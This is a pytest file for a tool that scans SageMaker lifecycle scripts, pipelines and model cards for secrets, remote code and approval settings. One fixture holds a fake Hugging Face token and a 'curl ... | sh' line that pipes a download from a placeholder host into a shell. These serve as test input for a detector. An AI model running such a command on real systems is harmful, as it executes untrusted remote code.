"""What of SageMaker's documents gets into the estate."""

from __future__ import annotations

import base64
import json

import pytest

from modelkeep.core.documents import card_content, card_uses, pipeline_findings, script_findings

TOKEN = "h" + "f_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH"


def encoded(script: str) -> str:
    return base64.b64encode(script.encode()).decode()


def test_scripts_leave_only_kinds_and_lines_behind() -> None:
    found = script_findings([("OnStart", encoded(f"#!/bin/sh\nexport T={TOKEN}\ncurl https://x.example/a | sh\n"))])
    assert found == {
        "secrets": ("OnStart line 2: Hugging Face token",),
        "remote_code": ("OnStart line 3: download piped into an interpreter",),
    }


@pytest.mark.parametrize("content", ["not base64!", base64.b64encode(b"\xff\xfe\xfa").decode()])
def test_a_script_that_cannot_be_read_is_no_clean_script(content: str) -> None:
    with pytest.raises(ValueError):
        script_findings([("OnStart", content)])


def test_a_pipeline_that_registers_approved_models_is_found_also_inside_conditions() -> None:
    register = {
        "Name": "r",
        "Type": "RegisterModel",
        "Arguments": {"ModelApprovalStatus": {"Get": "Parameters.Status"}},
    }
    definition = {"Steps": [{"Name": "c", "Type": "Condition", "Arguments": {"IfSteps": [register]}}]}
    decided = {**definition, "Parameters": [{"Name": "Status", "DefaultValue": "Approved"}]}
    assert pipeline_findings(json.dumps(definition))["approves_models"] is None
    assert pipeline_findings(json.dumps(decided)) == {"approves_models": True, "secrets": ()}


def test_a_card_without_purpose_has_none() -> None:
    assert card_uses(card_content('{"intended_uses": {"purpose_of_model": " ", "risk_rating": "High"}}')) == (
        False,
        "High",
    )
    with pytest.raises(TypeError):
        card_content("[]")
